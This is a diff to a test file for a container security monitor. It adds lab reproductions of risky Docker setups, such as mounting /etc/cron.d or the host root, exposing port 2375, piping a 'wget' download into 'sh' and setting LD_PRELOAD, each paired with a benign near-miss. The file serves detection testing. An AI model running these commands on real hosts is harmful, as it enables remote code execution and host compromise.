@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Finding, Severity } from '../../shared/finding.ts';
+import { eventually } from '../support/eventually.ts';
 import { type Lab, startLab } from '../support/lab.ts';
 import { type Moorwatch, startMoorwatch } from '../support/moorwatch.ts';
 
@@ -127,10 +128,67 @@ const reproductions: readonly Reproduction[] = [
     run: 'docker run -d --name lab-r23 $N $B; script -qec "docker exec -it lab-r23 sh -c id" /dev/null',
   },
   {
+    id: 'caps',
+    rows: { 'CFG-07': 'high', 'CFG-08': 'medium', 'CFG-10': 'medium' },
+    nearMiss: 'docker create --name near-caps --cap-add SYS_NICE $N $B',
+    run: 'docker create --name lab-caps --cap-add SYS_RAWIO --cap-add SYSLOG --cap-add NET_ADMIN $N $B',
+  },
+  {
+    id: 'cron',
+    rows: { 'MNT-12': 'critical', 'CFG-50': 'high' },
+    nearMiss: 'docker create --name near-cron --rm -v /srv:/c $N $B',
+    run: 'docker create --name lab-cron --rm -v /etc/cron.d:/c $N $B',
+  },
+  {
+    id: 'heir',
+    rows: { 'CFG-26': 'high', 'CFG-46': 'high' },
+    nearMiss:
+      'docker create --name own-r07 -v /srv:/h $N $B; docker create --name near-heir --volumes-from own-r07 --restart no $N $B',
+    run: 'docker create --name donor-r07 -v /:/h:ro $N $B; docker create --name lab-heir --volumes-from donor-r07 --restart always $N $B',
+  },
+  {
+    id: 'entry',
+    rows: { 'CFG-48': 'high', 'CFG-47': 'medium', 'CFG-35': 'medium', 'CFG-43': 'medium' },
+    nearMiss:
+      "docker create --name near-entry -e NODE_OPTIONS=--max-old-space-size=99 $N $B sh -c 'wget -O /tmp/x http://x/y'",
+    run: `docker create --name lab-entry --log-driver none --sysctl net.ipv4.ip_forward=1 -e LD_PRELOAD=/tmp/x.so $N $B \\
+      sh -c 'wget -qO- http://x/y | sh'`,
+  },
+  {
+    id: 'port',
+    rows: { 'CFG-45': 'high' },
+    nearMiss: 'docker create --name near-port -p 127.0.0.1:2375:2375 $B',
+    run: 'docker create --name lab-port -p 2375:80 $B',
+  },
+  {
+    id: 'engine',
+    rows: { 'MNT-11': 'high', 'CFG-28': 'medium' },
+    nearMiss: 'docker create --name near-engine -v engine-v:/d $N $B',
+    run: 'docker create --name lab-engine --cgroup-parent /elsewhere -v $(docker info -f "{{.DockerRootDir}}")/containers:/d:ro $N $B',
+  },
+  {
     id: 'r44',
     rows: { 'CRD-01': 'high' },
     nearMiss: imds('near-r44', '169.254.10.10'),
     run: imds('lab-r44', '169.254.169.254'),
+  },
+  {
+    id: 'r53',
+    rows: { 'API-05': 'low' },
+    nearMiss: 'docker run -d --name near-r53 $N $B; docker cp near-r53:/etc/passwd - >/dev/null',
+    run: "docker run -d --name lab-r53 $N $B; printf '#!/bin/sh\\nid\\n' >/tmp/lab-r53; docker cp /tmp/lab-r53 lab-r53:/tmp/t; rm /tmp/lab-r53",
+  },
+  {
+    id: 'r53out',
+    rows: { 'API-06': 'low' },
+    nearMiss: 'docker run -d --name near-r53out $N $B; docker cp /etc/hostname near-r53out:/tmp/x',
+    run: 'docker run -d --name lab-r53out $N $B; docker cp lab-r53out:/etc/passwd - >/dev/null',
+  },
+  {
+    id: 'r54',
+    rows: { 'IMG-05': 'medium', 'IMG-06': 'low' },
+    nearMiss: 'docker run -d --name near-r54 $N $B; docker pause near-r54; docker unpause near-r54',
+    run: 'docker run -d --name lab-r54 $N $B; docker commit lab-r54 lab/commit:1; docker export lab-r54 >/dev/null; docker rmi lab/commit:1',
   },
   {
     id: 'r56',
@@ -177,9 +235,48 @@ describe('reproductions of the catalogue', () => {
     for (const row of Object.keys(rows)) expect(about(findings, row, `near-${id}`)).toEqual([]);
   });
 
+  test('an ordinary container raises nothing at medium or above', async () => {
+    await lab.sh('docker run -d --name ordinary -v ordinary-v:/data -v /etc/localtime:/etc/localtime:ro $N $B');
+    const limits = await moorwatch.finding('CFG-36', (name) => name === 'ordinary');
+    expect(limits).toMatchObject({ severity: 'low' });
+    const raised = (await moorwatch.findings()).filter(({ container }) => container?.name === 'ordinary');
+    expect(raised.filter(({ severity }) => !['informational', 'low'].includes(severity))).toEqual([]);
+  });
+
   test('a plain rename is told at low, only one that resembles a protected name at high', async () => {
     await lab.sh('docker run -d --name plain-a $N $B; docker rename plain-a plain-b');
     expect(await moorwatch.finding('API-08', (name) => name === 'plain-b')).toMatchObject({ severity: 'low' });
+  });
+
+  test('r25: three execs that fail within five minutes are a probe at medium, two and a failing health check are not', async () => {
+    const failing = (name: string) => `docker exec ${name} /usr/bin/nonexistent-sh || true`;
+    await lab.sh(`docker run -d --name near-r25 $N $B; ${failing('near-r25')}; ${failing('near-r25')}
+      docker run -d --name near-r25check --health-cmd /no/such/check --health-interval 1s $N $B
+      docker run -d --name lab-r25 $N $B; for i in 1 2 3; do ${failing('lab-r25')}; done; sleep 6`);
+    const isProbe = ({ rule, severity }: Finding) => rule.catalogue.includes('EXE-05') && severity === 'medium';
+    const probe = await eventually(async () => (await moorwatch.findings()).find(isProbe));
+    expect(probe.container?.name).toBe('lab-r25');
+    await lab.sh('docker run -d --name after-r25 --cap-add SYS_MODULE $N $B');
+    await moorwatch.finding('CFG-04', (name) => name === 'after-r25');
+    expect((await moorwatch.findings()).filter(isProbe)).toHaveLength(1);
+    expect(await moorwatch.finding('EXE-05', (name) => name === 'near-r25')).toMatchObject({
+      severity: 'informational',
+    });
+  });
+
+  test('r54: a saved image, r59: a reloaded engine, and destroyed volumes are told although no container is concerned', async () => {
+    const findings = async (row: string) =>
+      (await moorwatch.findings()).filter(({ rule }) => rule.catalogue.includes(row));
+    expect(await findings('DMN-06')).toEqual([]);
+    await lab.sh('docker volume create v1; docker volume create v2; docker volume rm v1 v2');
+    await lab.sh(`docker save lab/bb:1 >/dev/null; kill -HUP $(cat ${lab.dir}/run/docker.pid)`);
+    const told = async (row: string, title: string) =>
+      await eventually(async () => (await findings(row)).find(({ rule }) => rule.title === title));
+    expect(await told('IMG-06', 'Image saved')).toMatchObject({ severity: 'low' });
+    expect(await told('DMN-06', 'Engine configuration reloaded')).toMatchObject({ severity: 'medium' });
+    expect(await findings('API-17')).toEqual([]);
+    await lab.sh('docker volume create v3; docker volume rm v3');
+    expect(await told('API-17', 'Volumes destroyed in numbers')).toMatchObject({ severity: 'medium' });
   });
 
   test('r62: of a flood of events all are there, or the gap is said', async () => {
